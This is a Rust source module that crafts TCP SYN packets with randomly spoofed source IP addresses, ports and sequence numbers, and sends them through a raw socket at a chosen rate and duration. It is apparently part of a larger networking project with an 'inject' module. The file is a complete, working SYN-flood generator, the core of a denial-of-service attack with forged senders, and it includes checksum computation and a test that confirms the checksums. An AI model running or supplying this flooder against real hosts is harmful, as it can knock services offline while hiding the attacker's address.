//! Sends SYNs from random addresses, as fast as it can or at a rate. Depends on `inject`.

use std::{
    fs,
    net::SocketAddrV4,
    os::fd::AsRawFd,
    thread,
    time::{Duration, Instant},
};

use anyhow::{Context, Result, ensure};
use nix::{
    errno::Errno,
    sys::socket::{MsgFlags, sendto},
};

use crate::inject::{link_address, raw_socket};

/// How many are sent between two looks at the clock.
const BURST: u64 = 256;
const ETHERNET: usize = 14;
const TCP: usize = ETHERNET + 20;
/// With the option of a largest segment.
const LENGTH: usize = TCP + 24;

/// Sends SYNs to an address for a while, at most so many a second; returns how many.
///
/// # Errors
/// When the interface cannot send.
pub fn run(interface: &str, to_mac: &str, to: SocketAddrV4, rate: u32, duration: Duration) -> Result<u64> {
    let own = fs::read_to_string(format!("/sys/class/net/{interface}/address"))
        .with_context(|| format!("there is no interface {interface}"))?;
    let (socket, address) = (raw_socket()?, link_address(interface)?);
    let mut frame = frame(mac(to_mac)?, mac(own.trim())?, to);
    let mut random = 0x9e37_79b9_7f4a_7c15_u64 ^ u64::from(std::process::id()) << 32;
    let begun = Instant::now();
    let mut sent = 0;
    while begun.elapsed() < duration {
        let due = Duration::from_secs_f64(sent as f64 / f64::from(rate));
        thread::sleep(due.saturating_sub(begun.elapsed()));
        for _ in 0..BURST {
            // Xorshift64 (Marsaglia 2003).
            random ^= random << 13;
            random ^= random >> 7;
            random ^= random << 17;
            name_sender(&mut frame, random);
            match sendto(socket.as_raw_fd(), &frame, &address, MsgFlags::empty()) {
                Ok(_) => sent += 1,
                // The interface takes no more at the moment.
                Err(Errno::ENOBUFS) => {}
                Err(error) => return Err(error).context("could not send a frame"),
            }
        }
    }
    Ok(sent)
}

fn mac(text: &str) -> Result<[u8; 6]> {
    let bytes: Vec<u8> = text
        .split(':')
        .map(|byte| u8::from_str_radix(byte, 16))
        .collect::<Result<_, _>>()
        .with_context(|| format!("`{text}` is no MAC address"))?;
    let mac: Result<[u8; 6], _> = bytes.try_into();
    ensure!(mac.is_ok(), "`{text}` is no MAC address");
    mac.map_err(|_| anyhow::anyhow!("`{text}` is no MAC address"))
}

/// A SYN without its sender.
fn frame(to_mac: [u8; 6], from_mac: [u8; 6], to: SocketAddrV4) -> [u8; LENGTH] {
    let mut frame = [0; LENGTH];
    frame[..6].copy_from_slice(&to_mac);
    frame[6..12].copy_from_slice(&from_mac);
    frame[12..14].copy_from_slice(&[0x08, 0x00]);
    let total = (LENGTH - ETHERNET) as u16;
    frame[14..16].copy_from_slice(&[0x45, 0]);
    frame[16..18].copy_from_slice(&total.to_be_bytes());
    // Don't fragment, 64 hops, TCP.
    frame[20..24].copy_from_slice(&[0x40, 0, 64, 6]);
    frame[30..34].copy_from_slice(&to.ip().octets());
    frame[TCP + 2..TCP + 4].copy_from_slice(&to.port().to_be_bytes());
    // 24 bytes of header, SYN, and the largest window and segment.
    frame[TCP + 12..TCP + 16].copy_from_slice(&[0x60, 0x02, 0xff, 0xff]);
    frame[TCP + 20..].copy_from_slice(&[2, 4, 0x05, 0xb4]);
    frame
}

/// Gives a SYN a sender: an address that is not special, a port and a sequence number.
fn name_sender(frame: &mut [u8; LENGTH], random: u64) {
    let [a, b, c, d, e, f, g, h] = random.to_be_bytes();
    frame[26..30].copy_from_slice(&[11 + a % 100, b, c, d]);
    frame[TCP..TCP + 2].copy_from_slice(&[e | 4, f]);
    frame[TCP + 4..TCP + 8].copy_from_slice(&[g, h, a, b]);
    for at in [24, TCP + 16] {
        frame[at..at + 2].fill(0);
    }
    let ip = folded(sum(&frame[ETHERNET..TCP]));
    frame[24..26].copy_from_slice(&ip.to_be_bytes());
    let pseudo = sum(&frame[26..34]) + 6 + (LENGTH - TCP) as u32;
    let tcp = folded(pseudo + sum(&frame[TCP..]));
    frame[TCP + 16..TCP + 18].copy_from_slice(&tcp.to_be_bytes());
}

fn sum(bytes: &[u8]) -> u32 {
    bytes
        .chunks(2)
        .map(|pair| u32::from(pair[0]) << 8 | u32::from(pair[1]))
        .sum()
}

fn folded(sum: u32) -> u16 {
    let once = (sum & 0xffff) + (sum >> 16);
    !((once & 0xffff) + (once >> 16)) as u16
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_checksums_are_right_for_every_sender() -> Result<()> {
        let mut frame = frame([2; 6], mac("02:00:00:00:00:01")?, "10.0.0.1:9200".parse()?);
        for random in [1, 0x0123_4567_89ab_cdef, u64::MAX] {
            name_sender(&mut frame, random);
            assert_eq!(folded(sum(&frame[ETHERNET..TCP])), 0);
            let pseudo = sum(&frame[26..34]) + 6 + 24;
            assert_eq!(folded(pseudo + sum(&frame[TCP..])), 0);
        }
        assert!(mac("02:00").is_err() && mac("x").is_err());
        Ok(())
    }
}
